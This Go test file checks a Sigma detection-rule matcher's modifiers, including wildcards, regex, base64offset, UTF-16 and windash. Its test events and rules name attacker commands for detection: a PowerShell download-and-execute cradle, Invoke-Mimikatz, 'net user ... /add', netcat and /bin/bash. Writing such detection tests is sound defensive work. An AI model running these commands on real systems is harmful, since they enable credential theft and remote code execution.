package sigma

import (
	"encoding/base64"
	"testing"
)

type matchCase struct {
	name  string
	event map[string]any
	want  bool
}

// runCases compiles one selection (condition: sel) and checks each event.
func runCases(t *testing.T, sel string, cases []matchCase) {
	t.Helper()
	r := mustCompile(t, indent("sel:\n"+indent(sel)+"condition: sel"))
	for _, c := range cases {
		if got := r.Match("T", NewMapEvent(c.event)); got != c.want {
			t.Errorf("%s | %s: got %v, want %v", sel, c.name, got, c.want)
		}
	}
}

func ev(kv ...any) map[string]any {
	m := map[string]any{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1]
	}
	return m
}

func TestPlainValues(t *testing.T) {
	runCases(t, `Image: 'C:\Windows\System32\cmd.exe'`, []matchCase{
		{"same", ev("Image", `C:\Windows\System32\cmd.exe`), true},
		{"case differs", ev("Image", `c:\windows\system32\CMD.EXE`), true},
		{"substring only", ev("Image", `C:\Windows\System32\cmd.exe.bak`), false},
		{"absent", ev(), false},
		{"null", ev("Image", nil), false},
	})
	runCases(t, `Name: 'ПРИВЕТ'`, []matchCase{
		{"cyrillic lower", ev("Name", "привет"), true},
		{"other", ev("Name", "привез"), false},
	})
	runCases(t, `Name|cased: 'Admin'`, []matchCase{
		{"same case", ev("Name", "Admin"), true},
		{"other case", ev("Name", "admin"), false},
	})
	runCases(t, `Name|contains|cased: 'Adm*'`, []matchCase{
		{"wildcard still applies", ev("Name", "xAdmin"), true},
		{"case", ev("Name", "xadmin"), false},
	})
	runCases(t, `Empty: ''`, []matchCase{
		{"empty", ev("Empty", ""), true},
		{"non-empty", ev("Empty", "x"), false},
		{"absent", ev(), false},
		{"null", ev("Empty", nil), false},
	})
	// Kelvin sign lowers to ASCII k.
	runCases(t, `Name|contains: 'kit'`, []matchCase{{"kelvin", ev("Name", "\u212Ait"), true}})
}

func TestWildcardsAndEscapes(t *testing.T) {
	runCases(t, `F: 'a*c?e'`, []matchCase{
		{"star and one", ev("F", "abbbcde"), true},
		{"star empty", ev("F", "acxe"), true},
		{"question needs one", ev("F", "ace"), false},
		{"multibyte for ?", ev("F", "acée"), true},
	})
	cases := []struct {
		value string
		event string
		want  bool
	}{
		{`a\*b`, `a*b`, true},
		{`a\*b`, `axb`, false},
		{`a\?b`, `a?b`, true},
		{`a\?b`, `axb`, false},
		{`a\\*`, `a\anything`, true}, // backslash then wildcard
		{`a\\*`, `ab`, false},
		{`a\\\*`, `a\*`, true}, // backslash then literal star
		{`a\\\*`, `a\x`, false},
		{`a\\\\b`, `a\\b`, true}, // two backslashes
		{`C:\Windows`, `C:\Windows`, true},
		{`C:\\Windows`, `C:\Windows`, true},
		{`dir\`, `dir\`, true}, // trailing lone backslash
		{`\Windows\`, `\windows\`, true},
	}
	for _, c := range cases {
		r := mustCompile(t, indent("sel:\n    F: '"+c.value+"'\ncondition: sel"))
		if got := r.Match("T", NewMapEvent(ev("F", c.event))); got != c.want {
			t.Errorf("value %q vs %q: got %v want %v", c.value, c.event, got, c.want)
		}
	}
}

func TestStringShapes(t *testing.T) {
	runCases(t, `CommandLine|contains: ' -enc '`, []matchCase{
		{"inside", ev("CommandLine", "powershell.exe -ENC abc"), true},
		{"absent text", ev("CommandLine", "powershell.exe -e abc"), false},
	})
	runCases(t, `CommandLine|contains: '*already*'`, []matchCase{{"star kept", ev("CommandLine", "x already y"), true}})
	runCases(t, `Image|startswith: 'C:\Users\'`, []matchCase{
		{"prefix", ev("Image", `c:\users\bob\a.exe`), true},
		{"not prefix", ev("Image", `D:\c:\users\`), false},
	})
	runCases(t, `Image|endswith: '\rundll32.exe'`, []matchCase{
		{"suffix", ev("Image", `C:\Windows\System32\RUNDLL32.EXE`), true},
		{"not suffix", ev("Image", `C:\rundll32.exe.tmp`), false},
		{"non-ascii before", ev("Image", `C:\тест\rundll32.exe`), true},
	})
	runCases(t, `Image|endswith: 'é.exe'`, []matchCase{{"non-ascii suffix", ev("Image", `C:\CAFÉ.EXE`), true}})
}

func TestListsAndAll(t *testing.T) {
	runCases(t, "Image|endswith:\n    - '\\a.exe'\n    - '\\b.exe'", []matchCase{
		{"first", ev("Image", `x\a.exe`), true},
		{"second", ev("Image", `x\B.EXE`), true},
		{"neither", ev("Image", `x\c.exe`), false},
	})
	runCases(t, "CommandLine|contains|all:\n    - 'net'\n    - 'user'\n    - '/add'", []matchCase{
		{"all present", ev("CommandLine", "net user bob /add"), true},
		{"one missing", ev("CommandLine", "net user bob"), false},
	})
}

func TestTypedValues(t *testing.T) {
	runCases(t, `EventID: 4688`, []matchCase{
		{"number", ev("EventID", 4688), true},
		{"float", ev("EventID", 4688.0), true},
		{"string", ev("EventID", "4688"), true},
		{"other", ev("EventID", 4624), false},
	})
	runCases(t, `EventID: '4688'`, []matchCase{{"string rule vs number event", ev("EventID", 4688), true}})
	runCases(t, `Signed: true`, []matchCase{
		{"bool", ev("Signed", true), true},
		{"text", ev("Signed", "True"), true},
		{"false", ev("Signed", "false"), false},
	})
	runCases(t, `Version: 1.10`, []matchCase{{"float text as written", ev("Version", "1.10"), true}})
}

func TestNullAndExists(t *testing.T) {
	runCases(t, `F: null`, []matchCase{
		{"absent", ev(), true},
		{"null", ev("F", nil), true},
		{"empty", ev("F", ""), false},
		{"value", ev("F", "x"), false},
	})
	runCases(t, `F: []`, []matchCase{{"empty list is null", ev(), true}})
	runCases(t, `F|exists: true`, []matchCase{
		{"absent", ev(), false},
		{"null counts as present", ev("F", nil), true},
		{"empty", ev("F", ""), true},
		{"value", ev("F", "x"), true},
	})
	runCases(t, `F|exists: false`, []matchCase{
		{"absent", ev(), true},
		{"null", ev("F", nil), false},
		{"value", ev("F", "x"), false},
	})
	// not sel where sel: {F: x}
	r := mustCompile(t, indent("sel:\n    F: x\ncondition: not sel"))
	for _, c := range []matchCase{{"absent", ev(), true}, {"null", ev("F", nil), true}, {"empty", ev("F", ""), true}, {"x", ev("F", "x"), false}} {
		if r.Match("T", NewMapEvent(c.event)) != c.want {
			t.Errorf("not sel, %s", c.name)
		}
	}
}

func TestArraysAndPaths(t *testing.T) {
	runCases(t, `Tags: admin`, []matchCase{
		{"array element", ev("Tags", []any{"user", "ADMIN"}), true},
		{"no element", ev("Tags", []any{"user"}), false},
	})
	runCases(t, `requestParameters.userName: bob`, []matchCase{
		{"nested", ev("requestParameters", map[string]any{"userName": "bob"}), true},
		{"literal dotted key", ev("requestParameters.userName", "bob"), true},
		{"embedded json", ev("requestParameters", `{"userName":"bob"}`), true},
		{"array of objects", ev("requestParameters", []any{map[string]any{"userName": "x"}, map[string]any{"userName": "bob"}}), true},
		{"missing", ev("requestParameters", map[string]any{"other": "bob"}), false},
	})
	runCases(t, `EventData.TaskName|endswith: '\Evil'`, []matchCase{
		{"EventData XML", ev("EventData", `<EventData><Data Name="TaskName">\Microsoft\Evil</Data></EventData>`), true},
	})
	runCases(t, `SyslogMessage.exe|endswith: '/nc'`, []matchCase{
		{"auditd key=value", ev("SyslogMessage", `type=SYSCALL msg=audit(1.2:3): arch=c000003e syscall=59 exe="/usr/bin/nc" key="x"`), true},
	})
}

func TestRegex(t *testing.T) {
	runCases(t, `CommandLine|re: 'cmd\.exe /c [a-z]+'`, []matchCase{
		{"unanchored search", ev("CommandLine", "x cmd.exe /c whoami y"), true},
		{"case-sensitive", ev("CommandLine", "CMD.EXE /c whoami"), false},
		{"number text", ev("CommandLine", 5), false},
	})
	runCases(t, `CommandLine|re|i: 'CMD\.EXE'`, []matchCase{{"i flag", ev("CommandLine", "cmd.exe"), true}})
	runCases(t, `Text|re|m: '^second$'`, []matchCase{{"m flag", ev("Text", "first\nsecond\nthird"), true}})
	runCases(t, `Text|re: '^second$'`, []matchCase{{"no m flag", ev("Text", "first\nsecond\nthird"), false}})
	runCases(t, `Text|re|s: 'a.b'`, []matchCase{{"s flag", ev("Text", "a\nb"), true}})
	runCases(t, `Text|re: 'a.b'`, []matchCase{{"no s flag", ev("Text", "a\nb"), false}})
}

func TestBase64(t *testing.T) {
	runCases(t, `CommandLine|base64|contains: 'IEX'`, []matchCase{
		{"encoded", ev("CommandLine", "x "+base64.StdEncoding.EncodeToString([]byte("IEX"))+" y"), true},
	})
	// The three offsets of a UTF-8 needle inside a longer encoded text.
	for _, prefix := range []string{"", "a", "ab", "abc"} {
		blob := base64.StdEncoding.EncodeToString([]byte(prefix + "Invoke-Mimikatz -Command"))
		runCases(t, `CommandLine|base64offset|contains: 'Invoke-Mimikatz'`, []matchCase{{"offset " + prefix, ev("CommandLine", "powershell -enc "+blob), true}})
	}
	// PowerShell -EncodedCommand is UTF-16LE base64: "IEX (New-Object Net.WebClient)".
	ps := utf16Bytes("$x=1; IEX (New-Object Net.WebClient).DownloadString('http://a')", false, false)
	blob := base64.StdEncoding.EncodeToString([]byte(ps))
	runCases(t, `CommandLine|wide|base64offset|contains: 'New-Object Net.WebClient'`, []matchCase{
		{"utf16le offset", ev("CommandLine", "powershell.exe -EncodedCommand "+blob), true},
		{"not present", ev("CommandLine", "powershell.exe -EncodedCommand "+base64.StdEncoding.EncodeToString([]byte(utf16Bytes("Get-Date", false, false)))), false},
	})
	runCases(t, `CommandLine|utf16le|base64offset|contains: 'New-Object'`, []matchCase{{"utf16le alias", ev("CommandLine", blob), true}})
	be := base64.StdEncoding.EncodeToString([]byte(utf16Bytes("ping", true, false)))
	runCases(t, `F|utf16be|base64|contains: 'ping'`, []matchCase{{"utf16be", ev("F", be), true}})
	bom := base64.StdEncoding.EncodeToString([]byte(utf16Bytes("ping", false, true)))
	runCases(t, `F|utf16|base64: 'ping'`, []matchCase{{"utf16 with BOM", ev("F", bom), true}})
}

func TestBase64OffsetFragments(t *testing.T) {
	got := base64Offsets("/bin/bash")
	want := []string{"L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"}
	if len(got) != 3 || got[0] != want[0] || got[1] != want[1] || got[2] != want[2] {
		t.Fatalf("base64offset(/bin/bash) = %q, want %q", got, want)
	}
}

func TestWindash(t *testing.T) {
	runCases(t, `CommandLine|contains|windash: ' -exec '`, []matchCase{
		{"dash", ev("CommandLine", "x -exec y"), true},
		{"slash", ev("CommandLine", "x /exec y"), true},
		{"en dash", ev("CommandLine", "x \u2013exec y"), true},
		{"em dash", ev("CommandLine", "x \u2014exec y"), true},
		{"horizontal bar", ev("CommandLine", "x \u2015exec y"), true},
		{"other", ev("CommandLine", "x +exec y"), false},
	})
	runCases(t, `F|windash: 'a-b'`, []matchCase{
		{"inside a word untouched", ev("F", "a-b"), true},
		{"not expanded", ev("F", "a/b"), false},
	})
	runCases(t, `F|windash: '--x'`, []matchCase{
		{"second dash expanded", ev("F", "-/x"), true},
		{"first dash kept", ev("F", "/-x"), false},
	})
	runCases(t, `F|windash: '-a -b'`, []matchCase{{"two positions", ev("F", "/a \u2013b"), true}})
	runCases(t, `F|endswith|windash: ' -f'`, []matchCase{{"endswith", ev("F", "taskkill /f"), true}})
}

func TestCIDR(t *testing.T) {
	runCases(t, "IP|cidr:\n    - '10.0.0.0/8'\n    - 'fd00::/8'", []matchCase{
		{"v4 in", ev("IP", "10.1.2.3"), true},
		{"v4 out", ev("IP", "11.1.2.3"), false},
		{"v6 in", ev("IP", "fd12::1"), true},
		{"v6 out", ev("IP", "fe80::1"), false},
		{"v4-mapped v6", ev("IP", "::ffff:10.0.0.1"), true},
		{"not an ip", ev("IP", "host"), false},
	})
}

func TestNumericCompare(t *testing.T) {
	runCases(t, `Port|gt: 1024`, []matchCase{
		{"greater", ev("Port", 8080), true},
		{"equal", ev("Port", 1024), false},
		{"string number", ev("Port", "2048"), true},
		{"not a number", ev("Port", "high"), false},
	})
	runCases(t, `Port|gte: 1024`, []matchCase{{"equal", ev("Port", 1024), true}})
	runCases(t, `Port|lt: 10`, []matchCase{{"less", ev("Port", 9), true}, {"equal", ev("Port", 10), false}})
	runCases(t, `Port|lte: 10.5`, []matchCase{{"float", ev("Port", "10.5"), true}})
	runCases(t, `T|hour: 3`, []matchCase{
		{"hour", ev("T", "2024-05-01T03:15:00Z"), true},
		{"sysmon time", ev("T", "2024-05-01 03:15:00.123"), true},
		{"other hour", ev("T", "2024-05-01T04:15:00Z"), false},
	})
	runCases(t, `T|hour|gte: 22`, []matchCase{{"hour compare", ev("T", "2024-05-01T23:00:00Z"), true}})
}

func TestNeq(t *testing.T) {
	runCases(t, "User|neq:\n    - SYSTEM\n    - LOCAL SERVICE", []matchCase{
		{"other", ev("User", "bob"), true},
		{"excluded", ev("User", "system"), false},
		{"absent matches", ev(), true},
	})
}

func TestFieldRef(t *testing.T) {
	runCases(t, `Image|fieldref: ParentImage`, []matchCase{
		{"equal ignoring case", ev("Image", `C:\a.exe`, "ParentImage", `c:\A.EXE`), true},
		{"different", ev("Image", `C:\a.exe`, "ParentImage", `C:\b.exe`), false},
		{"other absent", ev("Image", `C:\a.exe`), false},
	})
	runCases(t, `Image|fieldref|neq: ParentImage`, []matchCase{{"differ", ev("Image", "a", "ParentImage", "b"), true}})
	runCases(t, `TargetFilename|fieldref|startswith: Dir`, []matchCase{{"prefix", ev("TargetFilename", `C:\x\y.txt`, "Dir", `C:\X\`), true}})
}

func TestExpand(t *testing.T) {
	c := &Compiler{Pipeline: testPipeline, Placeholders: map[string][]string{"Admins": {"alice", "bob*"}}}
	r, err := compileTest(t, c, ruleYAML(indent("sel:\n    User|expand: '%Admins%'\ncondition: sel")))
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range []matchCase{{"alice", ev("User", "Alice"), true}, {"bob wildcard", ev("User", "bobby"), true}, {"carol", ev("User", "carol"), false}} {
		if r.Match("T", NewMapEvent(x.event)) != x.want {
			t.Errorf("expand: %s", x.name)
		}
	}
	r, err = compileTest(t, c, ruleYAML(indent("sel:\n    Path|expand: '\\%Admins\\% %Admins%'\ncondition: sel")))
	if err != nil || !r.Match("T", NewMapEvent(ev("Path", "%Admins% alice"))) {
		t.Errorf("escaped percent: %v", err)
	}
	_, err = compileTest(t, &Compiler{Pipeline: testPipeline}, ruleYAML(indent("sel:\n    User|expand: '%Unknown%'\ncondition: sel")))
	if err == nil {
		t.Error("unresolved placeholder accepted")
	}
	// Without expand, %x% is literal text.
	runCases(t, `Path|contains: '%APPDATA%'`, []matchCase{{"literal", ev("Path", `x%appdata%y`), true}})
}

func TestKeywords(t *testing.T) {
	r := mustCompile(t, indent("keywords:\n    - 'failed password'\n    - 'invalid user*root'\ncondition: keywords"))
	for _, c := range []matchCase{
		{"first", ev("SyslogMessage", "sshd: Failed password for bob"), true},
		{"wildcard", ev("SyslogMessage", "Invalid user admin from root"), true},
		{"nested leaf", ev("a", map[string]any{"b": "failed password"}), true},
		{"neither", ev("SyslogMessage", "accepted"), false},
	} {
		if r.Match("T", NewMapEvent(c.event)) != c.want {
			t.Errorf("keywords %s", c.name)
		}
	}
	r = mustCompile(t, indent("keywords:\n    '|all':\n        - 'one'\n        - 200\ncondition: keywords"))
	if !r.Match("T", NewMapEvent(ev("a", "one", "code", 200))) || r.Match("T", NewMapEvent(ev("a", "one"))) {
		t.Error("|all keywords")
	}
}

func TestRejected(t *testing.T) {
	bad := []string{
		"sel:\n    F|re: '('\ncondition: sel",                // bad regex
		"sel:\n    F|cidr: '10.0.0.0/99'\ncondition: sel",    // bad network
		"sel:\n    F|unknownmod: x\ncondition: sel",          // unknown modifier
		"sel:\n    F|contains|re: x\ncondition: sel",         // re not first
		"sel:\n    F|base64|contains: 'a*'\ncondition: sel",  // wildcard encoded
		"sel:\n    F|gt: abc\ncondition: sel",                // numeric needs number
		"sel:\n    F|exists: yes please\ncondition: sel",     // exists takes a bool
		"sel:\n    F: x\ncondition: sel | count() > 5",       // old aggregation
		"sel:\n    F: x\ncondition: sel near other",          // near
		"sel:\n    F: x\ncondition: missing",                 // unknown identifier
		"sel:\n    F|contains|startswith: x\ncondition: sel", // two shapes
	}
	for _, b := range bad {
		if _, err := compileTest(t, &Compiler{Pipeline: testPipeline}, ruleYAML(indent(b))); err == nil {
			t.Errorf("accepted:\n%s", b)
		}
	}
}
